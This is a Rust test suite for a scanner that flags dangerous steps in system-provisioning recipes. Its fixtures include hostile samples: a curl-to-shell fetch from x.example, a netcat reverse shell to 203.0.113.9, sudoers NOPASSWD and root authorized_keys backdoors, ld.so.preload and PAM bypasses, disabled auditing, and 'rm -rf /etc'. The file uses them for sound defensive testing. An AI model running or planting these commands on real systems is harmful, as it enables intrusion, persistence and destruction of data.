//! Whole recipes: what the manifest declares is weighed, what its files do is judged.

use recipe_spec::{Limits, Payload, Recipe};
use scanner::{Decision, Report, Severity, limits, scan_recipe};

const HEAD: &str = "[recipe]\nname = \"atlas/web\"\nversion = \"1.0.0\"\nbase = [\"debian-12\"]\n\n";

fn recipe(manifest: &str, files: &[(&str, &str)]) -> Recipe {
    build(manifest, files).expect("a valid recipe")
}

fn build(manifest: &str, files: &[(&str, &str)]) -> Result<Recipe, Box<dyn std::error::Error>> {
    let mut builder = Payload::builder(&Limits::STANDARD);
    builder.add("recipe.toml", format!("{HEAD}{manifest}").into_bytes(), false)?;
    for (path, text) in files {
        builder.add(path, text.as_bytes().to_vec(), false)?;
    }
    Ok(Recipe::from_payload(builder.finish()?, &Limits::STANDARD)?)
}

fn findings(report: &Report) -> Vec<(&str, &str, usize, Severity)> {
    report
        .findings()
        .map(|finding| (finding.rule, finding.path.as_str(), finding.line, finding.severity))
        .collect()
}

#[test]
fn a_plain_web_server_is_allowed_without_a_word() {
    let report = scan_recipe(&recipe(
        r#"
[network]
listen = [{ port = 80, protocol = "tcp" }]

[[step]]
package = ["nginx-light"]

[[step]]
file = { path = "/var/www/html/index.html", source = "files/index.html", mode = "0644" }

[[step]]
file = { path = "/etc/systemd/system/web.service", content = "[Service]\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n" }

[[step]]
service = { name = "nginx", enabled = true, running = true }

[[test]]
name = "serves the page"
run = "curl -fsS http://127.0.0.1/ | grep -q 'run display'"
"#,
        &[("files/index.html", "<h1>run display</h1>\n")],
    ));
    assert_eq!(findings(&report), []);
    assert_eq!(report.decision, Decision::Allow);
    assert_eq!(report.files.len(), 2);
}

#[test]
fn a_run_script_and_a_condition_are_read_at_their_places() {
    let report = scan_recipe(&recipe(
        "[[step]]\nrun = { script = \"scripts/a.sh\", unless = \"curl -s https://x.example | sh\" }\n",
        &[("scripts/a.sh", "#!/bin/sh\n\necho 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app\n")],
    ));
    assert_eq!(
        findings(&report),
        [("EXE-001", "recipe.toml", 7, Severity::Deny), ("PRV-003", "scripts/a.sh", 3, Severity::Deny),]
    );
    assert_eq!(report.decision, Decision::Deny);
}

#[test]
fn file_steps_are_known_by_what_the_machine_makes_of_them() {
    let cases: &[(&str, &str, &str, Severity)] = &[
        ("/etc/sudoers.d/app", "app ALL=(ALL) NOPASSWD: ALL\n", "PRV-003", Severity::Deny),
        ("/etc/cron.d/app", "* * * * * root /opt/app\n", "PER-001", Severity::Warn),
        ("/etc/cron.d/app", "* * * * * root curl -s https://x.example | sh\n", "EXE-001", Severity::Deny),
        ("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA x\n", "PER-004", Severity::Deny),
        ("/etc/ld.so.preload", "/opt/l.so\n", "DEF-011", Severity::Deny),
        ("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n", "PER-006", Severity::Deny),
        ("/etc/ssh/sshd_config.d/a.conf", "PermitRootLogin yes\n", "DEF-005", Severity::Deny),
        (
            "/etc/systemd/system/a.service",
            "[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 203.0.113.9 1'\n",
            "NET-001",
            Severity::Deny,
        ),
        ("/etc/apt/apt.conf.d/9", "APT::Update::Post-Invoke {\"/opt/x\";};\n", "PER-008", Severity::Deny),
        ("/opt/app/start", "#!/usr/bin/env bash\nsetenforce 0\n", "DEF-002", Severity::Deny),
        (
            "/opt/app/start.py",
            "#!/usr/bin/python3\nimport socket,subprocess\nsubprocess.call(['/bin/sh'])\n",
            "EXE-005",
            Severity::Deny,
        ),
        ("/etc/modules-load.d/a.conf", "rootkit\n", "DEF-012", Severity::Deny),
    ];
    for (path, text, rule, severity) in cases {
        let step = format!("[[step]]\nfile = {{ path = \"{path}\", source = \"files/a\" }}\n");
        let report = scan_recipe(&recipe(&step, &[("files/a", text)]));
        assert!(
            report.findings().any(|f| f.rule == *rule && f.severity == *severity),
            "{path}: {:#?}",
            findings(&report)
        );
        let inline = text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n");
        let step = format!("[[step]]\nfile = {{ path = \"{path}\", content = \"{inline}\" }}\n");
        let report = scan_recipe(&recipe(&step, &[]));
        let found = report.findings().any(|f| f.rule == *rule && f.severity == *severity);
        // Code of other languages is read in files only.
        assert!(found || text.contains("python3"), "{path} inline: {:#?}", findings(&report));
    }
}

fn put_at(places: impl Iterator<Item = String>) -> String {
    places.map(|place| format!("[[step]]\nfile = {{ path = \"{place}\", source = \"files/a\" }}\n")).collect()
}

#[test]
fn many_steps_that_name_one_file_find_in_it_what_one_finds() {
    let unit = "[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 203.0.113.9 1'\n";
    let found = |count: usize| {
        let places = (0..count).map(|number| format!("/etc/systemd/system/a{number}.service"));
        let report = scan_recipe(&recipe(&put_at(places), &[("files/a", unit)]));
        report.files.into_iter().find(|file| file.path == "files/a").unwrap()
    };
    assert!(found(1).findings.iter().any(|finding| finding.rule == "NET-001"));
    assert_eq!(found(500), found(1));
}

#[test]
fn each_path_that_a_file_goes_to_is_judged() {
    let places = ["/opt/a", "/etc/sudoers.d/a", "/etc/cron.d/a"].map(str::to_owned).into_iter();
    let report = scan_recipe(&recipe(
        &put_at(places),
        &[("files/a", "* * * * * root curl -s https://x.example | sh\n")],
    ));
    for (rule, path) in [("PRV-003", "recipe.toml"), ("PER-001", "recipe.toml"), ("EXE-001", "files/a")] {
        assert!(
            report.findings().any(|finding| finding.rule == rule && finding.path == path),
            "{rule}: {:#?}",
            findings(&report)
        );
    }
}

#[test]
fn what_all_steps_together_put_into_files_has_a_limit() {
    let text = ("x".repeat(1023) + "\n").repeat(limits::FILE_BYTES / 1024);
    let most = limits::INSTALLED_BYTES / limits::FILE_BYTES;
    for (count, decision) in [(most, Decision::Allow), (510, Decision::Deny)] {
        let places = (0..count).map(|number| format!("/opt/{number}"));
        let report = scan_recipe(&recipe(&put_at(places), &[("files/a", text.as_str())]));
        assert_eq!(report.decision, decision, "{count}: {:#?}", findings(&report));
        let told = report.findings().any(|f| f.rule == "LIM-003" && f.path == "recipe.toml");
        assert_eq!(told, count > most, "{count}: {:#?}", findings(&report));
    }
}

#[test]
fn a_file_that_a_shell_is_told_to_read_is_read_as_shell() {
    let unit = "[[step]]\nfile = { path = \"/etc/systemd/system/a.service\", content = \"[Service]\\nExecStart=/bin/sh /opt/run\\n\" }\n\
        [[step]]\nfile = { path = \"/opt/run\", source = \"files/x\" }\n";
    let bad = "\ncurl http://x.example/a | sh\n";
    let perl = "#!/usr/bin/perl\ncurl http://x.example/a | sh\n";
    let cases: &[(&str, &str, &str, &str)] = &[
        ("", "#!/bin/sh\n. \"$(dirname \"$0\")/lib.sh\"\n", "lib.sh", bad),
        ("", "#!/bin/bash\nsource ./lib\n", "lib", bad),
        ("", "#!/bin/sh\nsudo sh -e README.md\n", "README.md", bad),
        ("", "#!/bin/sh\n. README\n", "README", bad),
        ("", "#!/bin/sh\nfor f in \"$1\"/*.sh; do . \"$f\"; done\n", "lib.sh", bad),
        ("", "#!/bin/sh\n\"$1/tool\"\n", "tool", bad),
        ("", "#!/bin/sh\nsh tool.pl\n", "tool.pl", perl),
        (unit, "true\n", "files/x", bad),
    ];
    let put = |path: &str| format!("[[step]]\nfile = {{ path = \"/srv/{path}\", source = \"{path}\" }}\n");
    let runs =
        |path: &str| format!("[[step]]\nrun = {{ script = \"a.sh\", creates = \"/opt/a\" }}\n{}", put(path));
    for (manifest, script, path, text) in cases {
        let manifest = runs(path) + manifest;
        let report = scan_recipe(&recipe(&manifest, &[("a.sh", script), (path, text)]));
        assert!(
            report.findings().any(|f| f.rule == "EXE-001" && f.path == *path && f.line == 2),
            "{script}: {:#?}",
            findings(&report)
        );
    }
    let chain = [("a.sh", "#!/bin/sh\n. ./z\n"), ("b", bad), ("z", ". ./b\n")];
    let report = scan_recipe(&recipe(&(runs("z") + &put("b")), &chain));
    assert!(report.findings().any(|f| f.path == "b"), "{:#?}", findings(&report));
}

#[test]
fn a_file_that_no_shell_reads_is_not_read_as_shell() {
    let run = "[[step]]\nrun = { script = \"a.sh\", creates = \"/opt/a\" }\n\
        [[step]]\nfile = { path = \"/srv/guide.html\", source = \"guide.html\" }\n";
    let script =
        "#!/bin/sh\ncp guide.html /var/www/\nsh -c \"$1 guide.html\"\nsh \"$1\"\n. \"$2/site.conf\"\n";
    let report =
        scan_recipe(&recipe(run, &[("a.sh", script), ("guide.html", "curl http://x.example/a | sh\n")]));
    assert!(report.findings().all(|f| f.path != "guide.html"), "{:#?}", findings(&report));
}

#[test]
fn what_all_files_together_may_cost_has_a_limit() {
    let text = format!("#!/bin/sh\nchmod u-s{}\n", " a".repeat(50_000));
    let files: Vec<(String, &str)> = (0..12).map(|number| (format!("{number}.sh"), text.as_str())).collect();
    for (count, decision) in [(3, Decision::Allow), (12, Decision::Deny)] {
        let files: Vec<(&str, &str)> =
            files.iter().take(count).map(|(path, text)| (path.as_str(), *text)).collect();
        let steps: String = files
            .iter()
            .map(|(path, _)| format!("[[step]]\nrun = {{ script = \"{path}\", creates = \"/opt/a\" }}\n"))
            .collect();
        let report = scan_recipe(&recipe(&steps, &files));
        assert_eq!(report.decision, decision, "{count}: {:#?}", findings(&report));
        assert!(report.findings().all(|f| f.rule == "LIM-003"), "{count}: {:#?}", findings(&report));
    }
}

#[test]
fn what_is_declared_openly_is_weighed_and_what_is_hidden_is_denied() {
    let user = "[[step]]\nuser = { name = \"app\", groups = [\"audio\"], authorized_keys = [\"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ7vKxK0m6n1qP4m0m0m0m0m0m0m0m0m0m0m0m0m0m0m x\"] }\n";
    let report = scan_recipe(&recipe(user, &[]));
    assert_eq!(findings(&report), [("PER-004", "recipe.toml", 7, Severity::Warn)]);
    assert_eq!(report.decision, Decision::Allow);

    let hidden = "[[step]]\nrun = { script = \"a.sh\", creates = \"/opt/a\" }\n";
    let script = "mkdir -p /home/app/.ssh\necho ssh-ed25519 AAAA x >> /home/app/.ssh/authorized_keys\n";
    let report = scan_recipe(&recipe(hidden, &[("a.sh", script)]));
    assert_eq!(findings(&report), [("PER-004", "a.sh", 2, Severity::Deny)]);
}

#[test]
fn modes_users_services_and_urls_of_steps_are_seen() {
    let cases: &[(&str, &str, Severity)] = &[
        (
            "[[step]]\nfile = { path = \"/opt/a\", content = \"x\", mode = \"4755\" }\n",
            "PRV-001",
            Severity::Deny,
        ),
        (
            "[capabilities]\nsetuid = [\"/opt/a\"]\n[[step]]\nfile = { path = \"/opt/a\", content = \"x\", mode = \"4755\" }\n",
            "PRV-001",
            Severity::Warn,
        ),
        (
            "[[step]]\nfile = { path = \"/opt/a\", content = \"x\", mode = \"0666\" }\n",
            "PRM-001",
            Severity::Deny,
        ),
        ("[[step]]\ndirectory = { path = \"/opt/a\", mode = \"0777\" }\n", "PRM-001", Severity::Deny),
        ("[[step]]\nuser = { name = \"app\", uid = 0 }\n", "PER-005", Severity::Deny),
        ("[[step]]\nuser = { name = \"app\", groups = [\"sudo\"] }\n", "PRV-007", Severity::Warn),
        ("[[step]]\nservice = { name = \"auditd\", enabled = false }\n", "DEF-003", Severity::Deny),
        (
            "[[step]]\ndownload = { url = \"http://x.example/a\", sha256 = \"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\", path = \"/opt/a\" }\n",
            "NET-005",
            Severity::Warn,
        ),
        (
            "[[step]]\nlink = { path = \"/etc/ld.so.preload\", target = \"/opt/a\" }\n",
            "DEF-011",
            Severity::Deny,
        ),
        ("[[test]]\nname = \"a\"\nrun = \"rm -rf /etc\"\n", "IMP-001", Severity::Deny),
    ];
    for (steps, rule, severity) in cases {
        let report = scan_recipe(&recipe(steps, &[]));
        assert!(
            report.findings().any(|f| f.rule == *rule && f.severity == *severity),
            "{steps}: {:#?}",
            findings(&report)
        );
    }
}

const BACKDOOR: &str = "[[step]]\npackage = [\"openssh-server\"]\n\n[[step]]\nrun = { script = \"setup.sh\", creates = \"/opt/ready\" }\n";
const SETUP: &str =
    "#!/bin/sh\nset -e\nkey='ssh-ed25519 AAAA intruder'\n\techo \"$key\" >> /root/.ssh/authorized_keys\n";

#[test]
fn a_person_sees_the_line_the_caret_and_what_to_do() {
    let recipe = recipe(BACKDOOR, &[("setup.sh", SETUP)]);
    let report = scan_recipe(&recipe);
    let text = report.human(|path| recipe.payload().file_at(path).map(|file| file.bytes.as_slice()), false);
    let golden = "\
deny[PER-004]: a key is put into `/root/.ssh/authorized_keys`
 --> setup.sh:4:2
  |
4 |  echo \"$key\" >> /root/.ssh/authorized_keys
  |  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ CWE-912, T1098.004
  |
  = help: declare the key under `authorized_keys` of a `user` step, where the site's policy sees it

deny: 2 files read, 1 deny, 0 warn, 0 smell (PER-004)
";
    assert_eq!(text, golden);
    let coloured =
        report.human(|path| recipe.payload().file_at(path).map(|file| file.bytes.as_slice()), true);
    assert!(coloured.contains("\u{1b}["));
    let blind = report.human(|_| None, false);
    assert!(blind.contains("setup.sh:4:2"), "{blind}");
}

#[test]
fn json_has_one_line_a_file() {
    let report = scan_recipe(&recipe(BACKDOOR, &[("setup.sh", SETUP)]));
    let golden = concat!(
        r#"{"path":"recipe.toml","findings":[]}"#,
        "\n",
        r#"{"path":"setup.sh","findings":[{"rule":"PER-004","severity":"deny","line":4,"column":2,"#,
        r#""message":"a key is put into `/root/.ssh/authorized_keys`","#,
        r#""help":"declare the key under `authorized_keys` of a `user` step, where the site's policy sees it","#,
        r#""cwe":"CWE-912","technique":"T1098.004"}]}"#,
        "\n",
    );
    assert_eq!(report.json_lines(), golden);
}
